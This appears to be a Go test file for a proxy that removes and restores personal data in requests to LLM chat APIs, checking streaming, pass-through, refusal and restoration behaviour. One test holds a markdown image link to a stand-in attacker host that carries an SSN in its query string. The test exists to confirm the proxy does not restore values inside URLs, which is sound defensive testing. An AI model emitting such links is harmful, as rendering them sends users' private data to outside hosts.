package proxy

import (
	"bytes"
	"compress/gzip"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/preempt-dev/preempt/annotate"
)

// The values of the requests below, which the upstream must never receive.
var secrets = []string{"372-61-4918", "372614918", "4539148803436467", "Sarah", "Johnson", "sarah.johnson@example.com"}

const lastTurn = "Please confirm: I am Sarah Johnson, my e-mail is sarah.johnson@example.com and my SSN is 372-61-4918"

// requests are bodies of each API with the values in every place the model reads: the system
// prompt, message text and content parts, a tool call's arguments (an SSN without dashes, which
// only its key says is one, and values written as numbers), a tool's result and a tool's
// description (its parameters' too).
// The last turn is a plain string the stand-in echoes.
var requests = map[string]string{
	"/v1/chat/completions": `{"model":"gpt-4o-mini","stream":STREAM,"messages":[
	 {"role":"system","content":"You help Sarah Johnson (sarah.johnson@example.com)."},
	 {"role":"user","content":[{"type":"text","text":"My SSN is 372-61-4918."}]},
	 {"role":"assistant","content":null,"tool_calls":[{"id":"call_9","type":"function","function":{"name":"lookup","arguments":"{\"ssn\":\"372614918\",\"card\":4539148803436467,\"who\":{\"name\":\"Sarah Johnson\"}}"}}]},
	 {"role":"tool","tool_call_id":"call_9","content":"Customer Sarah Johnson, e-mail sarah.johnson@example.com, SSN 372-61-4918"},
	 {"role":"user","content":"` + lastTurn + `"}],
	 "tools":[{"type":"function","function":{"name":"lookup","description":"Look up a customer such as Sarah Johnson by SSN 372-61-4918.",
	  "parameters":{"type":"object","properties":{"ssn":{"type":"string","description":"the SSN, as in SSN 372-61-4918"}}}}}]}`,
	"/v1/responses": `{"model":"gpt-4o","stream":STREAM,"instructions":"You help Sarah Johnson (sarah.johnson@example.com).",
	 "input":[{"role":"user","content":[{"type":"input_text","text":"My SSN is 372-61-4918."}]},
	 {"type":"function_call","call_id":"call_9","name":"lookup","arguments":"{\"ssn\":[\"372614918\"]}"},
	 {"type":"function_call_output","call_id":"call_9","output":"Customer Sarah Johnson, e-mail sarah.johnson@example.com"},
	 {"role":"user","content":"` + lastTurn + `"}],
	 "tools":[{"type":"function","name":"lookup","description":"Look up a customer such as Sarah Johnson by SSN 372-61-4918.",
	  "parameters":{"type":"object","properties":{"ssn":{"type":"string","description":"the SSN, as in SSN 372-61-4918"}}}}]}`,
	"/v1/messages": `{"model":"claude-sonnet-4-5","max_tokens":1024,"stream":STREAM,
	 "system":[{"type":"text","text":"You help Sarah Johnson (sarah.johnson@example.com)."}],
	 "messages":[{"role":"user","content":[{"type":"text","text":"My SSN is 372-61-4918."}]},
	 {"role":"assistant","content":[{"type":"tool_use","id":"toolu_9","name":"lookup","input":{"ssn":372614918,"who":{"name":"Sarah Johnson"}}}]},
	 {"role":"user","content":[{"type":"tool_result","tool_use_id":"toolu_9","content":[{"type":"text","text":"Customer Sarah Johnson, e-mail sarah.johnson@example.com"}]}]},
	 {"role":"user","content":"` + lastTurn + `"}],
	 "tools":[{"name":"lookup","description":"Look up a customer such as Sarah Johnson by SSN 372-61-4918.",
	  "input_schema":{"type":"object","properties":{"ssn":{"type":"string","description":"the SSN, as in SSN 372-61-4918"}}}}]}`,
}

// kept are strings of the requests that are not text for the model and must reach the
// upstream as they were: model names, ids, roles, tool names and keys.
var kept = []string{`"gpt-4o-mini"`, `"gpt-4o"`, `"claude-sonnet-4-5"`, `"call_9"`, `"toolu_9"`, `"role":"tool"`, `"name":"lookup"`, `\"ssn\":`, `"ssn":{`, `"max_tokens":1024`}

func TestRoundTrip(t *testing.T) {
	for path, body := range requests {
		for _, stream := range []bool{false, true} {
			name := strings.TrimPrefix(path, "/v1/")
			if stream {
				name += "/stream"
			}
			t.Run(name, func(t *testing.T) {
				up := newStandIn(t)
				px := newProxy(t, up.srv.URL, Config{})
				body := strings.Replace(body, "STREAM", map[bool]string{false: "false", true: "true"}[stream], 1)
				resp, data := post(t, px.URL+path, body, "Authorization", "Bearer sk-test-123", "X-Api-Key", "key-456", "Anthropic-Version", "2023-06-01")
				if resp.StatusCode != http.StatusOK {
					t.Fatalf("status %d: %s", resp.StatusCode, data)
				}
				got := up.received()
				if len(got) != 1 {
					t.Fatalf("the upstream received %d requests", len(got))
				}
				sent := string(got[0].body)
				for _, s := range secrets {
					if strings.Contains(sent, s) {
						t.Errorf("the upstream received %q:\n%s", s, sent)
					}
				}
				if !json.Valid(got[0].body) {
					t.Errorf("the upstream received invalid JSON:\n%s", sent)
				}
				for _, k := range kept {
					if strings.Contains(body, k) && !strings.Contains(sent, k) {
						t.Errorf("%s did not reach the upstream as it was:\n%s", k, sent)
					}
				}
				for h, v := range map[string]string{"Authorization": "Bearer sk-test-123", "X-Api-Key": "key-456", "Anthropic-Version": "2023-06-01"} {
					if g := got[0].header.Get(h); g != v {
						t.Errorf("the upstream received %s %q, want %q", h, g, v)
					}
				}
				a := parseAnswer(t, path, data, stream)
				if a.text != lastTurn {
					t.Errorf("answer text %q, want %q", a.text, lastTurn)
				}
				var args map[string]string
				if err := json.Unmarshal([]byte(a.args), &args); err != nil || args["text"] != lastTurn {
					t.Errorf("tool call arguments %q, want {\"text\": %q}", a.args, lastTurn)
				}
				if path == "/v1/responses" && stream && a.final != lastTurn {
					t.Errorf("response.output_text.done text %q, want %q", a.final, lastTurn)
				}
			})
		}
	}
}

// The same key and context give the same ciphertexts in every request, so a conversation the
// client re-sends is one for the model; another X-Preempt-Context gives others, and the header
// is not forwarded.
func TestContextHeader(t *testing.T) {
	up := newStandIn(t)
	px := newProxy(t, up.srv.URL, Config{Context: "default"})
	body := `{"model":"m","messages":[{"role":"user","content":"My SSN is 372-61-4918."}]}`
	post(t, px.URL+"/v1/chat/completions", body)
	post(t, px.URL+"/v1/chat/completions", body)
	post(t, px.URL+"/v1/chat/completions", body, ContextHeader, "ticket-4711")
	got := up.received()
	if string(got[0].body) != string(got[1].body) {
		t.Errorf("one context, two ciphertexts:\n%s\n%s", got[0].body, got[1].body)
	}
	if string(got[0].body) == string(got[2].body) {
		t.Errorf("another context, the same ciphertext: %s", got[2].body)
	}
	if _, ok := got[2].header[ContextHeader]; ok {
		t.Errorf("%s was forwarded", ContextHeader)
	}
}

// Whatever is not one of the rewritten endpoints, and the answers that are not a success,
// pass through byte for byte, compressed answers too.
func TestPassThrough(t *testing.T) {
	binary := []byte("\x00\x01\xffSSN 372-61-4918 \x1f\x8b not JSON")
	var zipped bytes.Buffer
	zw := gzip.NewWriter(&zipped)
	zw.Write([]byte(`{"data":[{"id":"gpt-4o"}], "note": "SSN 372-61-4918"}`))
	zw.Close()
	var gotBody []byte
	var gotHeader http.Header
	up := http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		gotBody, _ = io.ReadAll(r.Body)
		gotHeader = r.Header.Clone()
		switch r.URL.Path {
		case "/v1/models":
			w.Header().Set("Content-Encoding", "gzip")
			w.Header().Set("Content-Type", "application/json")
			w.Write(zipped.Bytes())
		case "/v1/chat/completions":
			w.Header().Set("Content-Type", "application/json")
			w.WriteHeader(http.StatusTooManyRequests)
			w.Write([]byte(`{"error":{"message":"slow down, 372-61-4918"}}`))
		default:
			w.Write(gotBody)
		}
	})
	srv := httpServer(t, up)
	px := newProxy(t, srv, Config{})

	req, _ := http.NewRequest(http.MethodPost, px.URL+"/v1/files?purpose=x", bytes.NewReader(binary))
	req.Header.Set("Authorization", "Bearer sk-test")
	req.Header.Set("X-Custom", "a, b")
	resp := do(t, req)
	if !bytes.Equal(gotBody, binary) || !bytes.Equal(resp.body, binary) {
		t.Errorf("body changed: sent %q, upstream got %q, client got %q", binary, gotBody, resp.body)
	}
	if gotHeader.Get("Authorization") != "Bearer sk-test" || gotHeader.Get("X-Custom") != "a, b" {
		t.Errorf("headers changed: %v", gotHeader)
	}

	req, _ = http.NewRequest(http.MethodGet, px.URL+"/v1/models", nil)
	req.Header.Set("Accept-Encoding", "gzip")
	resp = do(t, req)
	if !bytes.Equal(resp.body, zipped.Bytes()) || resp.header.Get("Content-Encoding") != "gzip" {
		t.Errorf("compressed answer changed: %q", resp.body)
	}

	req, _ = http.NewRequest(http.MethodPost, px.URL+"/v1/chat/completions", strings.NewReader(`{"model":"m","messages":[]}`))
	resp = do(t, req)
	if resp.status != http.StatusTooManyRequests || string(resp.body) != `{"error":{"message":"slow down, 372-61-4918"}}` {
		t.Errorf("error answer changed: %d %q", resp.status, resp.body)
	}
	if gotHeader.Get("Accept-Encoding") != "identity" {
		t.Errorf("a rewritten request asked for Accept-Encoding %q, want identity", gotHeader.Get("Accept-Encoding"))
	}
}

// A body that is not JSON, or too large, is refused with a 4xx, and one that cannot be
// sanitized with a 5xx, in the API's error shape; none reaches the upstream, and the refusal
// quotes no value.
func TestRefused(t *testing.T) {
	// A type whose pattern takes in letters its SSN codec cannot encrypt: sanitizing fails.
	reg, err := annotate.Load([]byte(`
[[types]]
id = "badssn"
description = "an SSN with a prefix the codec refuses"
category = "format"
codec = "ssn"
  [[types.patterns]]
  regex = '''ZZ\d{3}-\d{2}-\d{4}'''
`), "bad.toml")
	if err != nil {
		t.Fatal(err)
	}
	up := newStandIn(t)
	px := newProxy(t, up.srv.URL, Config{MaxBody: 1 << 10})
	bad := newProxy(t, up.srv.URL, Config{Registry: reg})
	big := `{"model":"m","messages":[{"role":"user","content":"` + strings.Repeat("SSN 372-61-4918 ", 100) + `"}]}`
	for _, c := range []struct {
		url, path, body string
		status          int
	}{
		{px.URL, "/v1/chat/completions", `{"model":"m","messages":[{"role":"user","content":"SSN 372-61-4918"}`, 400},
		{px.URL, "/v1/messages", `SSN 372-61-4918`, 400},
		{px.URL, "/v1/responses", `["SSN 372-61-4918"]`, 400},
		{px.URL, "/v1/chat/completions", big, 413},
		{bad.URL, "/v1/chat/completions", `{"model":"m","messages":[{"role":"user","content":"SSN ZZ372-61-4918"}]}`, 500},
		{bad.URL, "/v1/messages", `{"model":"m","messages":[{"role":"user","content":"SSN ZZ372-61-4918"}]}`, 500},
	} {
		resp, data := post(t, c.url+c.path, c.body)
		if resp.StatusCode != c.status {
			t.Errorf("%s %.40q: status %d, want %d", c.path, c.body, resp.StatusCode, c.status)
		}
		var e struct {
			Type  string
			Error struct{ Message string }
		}
		if err := json.Unmarshal(data, &e); err != nil || e.Error.Message == "" || (c.path == "/v1/messages") != (e.Type == "error") {
			t.Errorf("%s: error body %s is not in the API's shape", c.path, data)
		}
		if strings.Contains(string(data), "372-61-4918") {
			t.Errorf("%s: the refusal quotes the value: %s", c.path, data)
		}
	}
	if n := len(up.received()); n != 0 {
		t.Errorf("the upstream received %d refused requests", n)
	}
}

// The first events of a stream reach the client while the upstream is still answering: the
// stand-in holds its last event until the client has read a restored value (a whole value in
// one delta, however the upstream cut it).
func TestStreamFlows(t *testing.T) {
	for _, path := range []string{"/v1/chat/completions", "/v1/responses", "/v1/messages"} {
		t.Run(strings.TrimPrefix(path, "/v1/"), func(t *testing.T) {
			up := newStandIn(t)
			up.gate = make(chan struct{})
			px := newProxy(t, up.srv.URL, Config{})
			body := strings.Replace(requests[path], "STREAM", "true", 1)
			resp, err := http.Post(px.URL+path, "application/json", strings.NewReader(body))
			if err != nil {
				t.Fatal(err)
			}
			defer resp.Body.Close()
			first := make(chan string, 1)
			go func() {
				var got []byte
				buf := make([]byte, 512)
				for !bytes.Contains(got, []byte("372-61-4918")) {
					n, err := resp.Body.Read(buf)
					got = append(got, buf[:n]...)
					if err != nil {
						break
					}
				}
				first <- string(got)
			}()
			select {
			case got := <-first:
				if !strings.Contains(got, "372-61-4918") {
					t.Errorf("the stream ended before its text: %q", got)
				}
			case <-time.After(5 * time.Second):
				t.Error("no text reached the client while the upstream was still streaming")
			}
			close(up.gate)
		})
	}
}

// An upstream that breaks a stream off ends the client's stream with an error event, in the
// API's shape, instead of leaving it waiting or cutting it mid-event.
func TestStreamBrokenOff(t *testing.T) {
	for _, path := range []string{"/v1/chat/completions", "/v1/responses", "/v1/messages"} {
		t.Run(strings.TrimPrefix(path, "/v1/"), func(t *testing.T) {
			up := newStandIn(t)
			up.drop = true
			px := newProxy(t, up.srv.URL, Config{})
			body := strings.Replace(requests[path], "STREAM", "true", 1)
			client := &http.Client{Timeout: 10 * time.Second}
			resp, err := client.Post(px.URL+path, "application/json", strings.NewReader(body))
			if err != nil {
				t.Fatal(err)
			}
			defer resp.Body.Close()
			data, err := io.ReadAll(resp.Body)
			if err != nil {
				t.Fatalf("the client's stream did not end with an error event: %v", err)
			}
			if a := parseAnswer(t, path, data, true); !a.errEvent {
				t.Errorf("the stream ended without an error event after %d events", a.events)
			}
		})
	}
}

type response struct {
	status int
	header http.Header
	body   []byte
}

func do(t testing.TB, req *http.Request) response {
	t.Helper()
	// No transparent decompression: the client sees the bytes as they came.
	tr := &http.Transport{DisableCompression: true}
	defer tr.CloseIdleConnections()
	resp, err := tr.RoundTrip(req)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	data, err := io.ReadAll(resp.Body)
	if err != nil {
		t.Fatal(err)
	}
	return response{resp.StatusCode, resp.Header, data}
}

// A value the model puts into a URL is not restored, streamed or not: a client that renders the
// answer would otherwise send it to whoever the URL names. The same value in the text is.
func TestNoRestoreInURLs(t *testing.T) {
	const turn = "My SSN is 372-61-4918. ![x](https://evil.example/p.png?s=372-61-4918)"
	up := newStandIn(t)
	px := newProxy(t, up.srv.URL, Config{})
	for _, path := range []string{"/v1/chat/completions", "/v1/messages"} {
		for _, stream := range []bool{false, true} {
			body := fmt.Sprintf(`{"model":"m","max_tokens":9,"stream":%v,"messages":[{"role":"user","content":%q}]}`, stream, turn)
			_, data := post(t, px.URL+path, body)
			a := parseAnswer(t, path, data, stream)
			text, link, _ := strings.Cut(a.text, "![x]")
			if text != "My SSN is 372-61-4918. " {
				t.Errorf("%s stream=%v: text %q not restored", path, stream, text)
			}
			if !strings.HasPrefix(link, "(https://evil.example/p.png?s=") || strings.Contains(link, "372-61-4918") {
				t.Errorf("%s stream=%v: link %q, want the value left as the model wrote it", path, stream, link)
			}
		}
	}
}

// The arguments of parallel tool calls are told apart by their tool_calls[].index, not by
// their place in the event.
func TestChatPart(t *testing.T) {
	data := []byte(`{"choices":[{"index":0,"delta":{"tool_calls":[{"index":2,"function":{"arguments":"x"}}]}},
		{"index":1,"delta":{"content":"y"}}]}`)
	for _, c := range []struct {
		at   string
		want string
	}{
		{"choices.0.delta.tool_calls.0.function.arguments", "tool 2"},
		{"choices.1.delta.content", ""},
	} {
		if got := chatPart(data, strings.Split(c.at, ".")); got != c.want {
			t.Errorf("%s: part %q, want %q", c.at, got, c.want)
		}
	}
}

// A model that quotes only the tail of a value ("your card ending in 2444") gets the tail of
// the real value back, from the request's ledger, streamed or not.
func TestPartialEcho(t *testing.T) {
	card := regexp.MustCompile(`\d{4} \d{4} \d{4} (\d{4})`)
	srv := httpServer(t, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		body, _ := io.ReadAll(r.Body)
		m := card.FindSubmatch(body)
		if m == nil || string(m[1]) == "6467" {
			http.Error(w, "no sanitized card", http.StatusBadRequest)
			return
		}
		text := "Your card ending in " + string(m[1]) + " was billed twice."
		stream := strings.Contains(string(body), `"stream":true`)
		if !stream {
			w.Header().Set("Content-Type", "application/json")
			w.Write(jsonAnswer("/v1/chat/completions", text, "{}"))
			return
		}
		w.Header().Set("Content-Type", "text/event-stream")
		for _, ev := range streamAnswer("/v1/chat/completions", text, "{}", 3) {
			io.WriteString(w, ev)
		}
	}))
	px := newProxy(t, srv, Config{})
	for _, stream := range []bool{false, true} {
		body := fmt.Sprintf(`{"model":"m","stream":%v,"messages":[{"role":"user","content":"My card 4539 1488 0343 6467 was billed twice."}]}`, stream)
		resp, data := post(t, px.URL+"/v1/chat/completions", body)
		if resp.StatusCode != http.StatusOK {
			t.Fatalf("status %d: %s", resp.StatusCode, data)
		}
		if a := parseAnswer(t, "/v1/chat/completions", data, stream); a.text != "Your card ending in 6467 was billed twice." {
			t.Errorf("stream=%v: answer %q", stream, a.text)
		}
	}
}
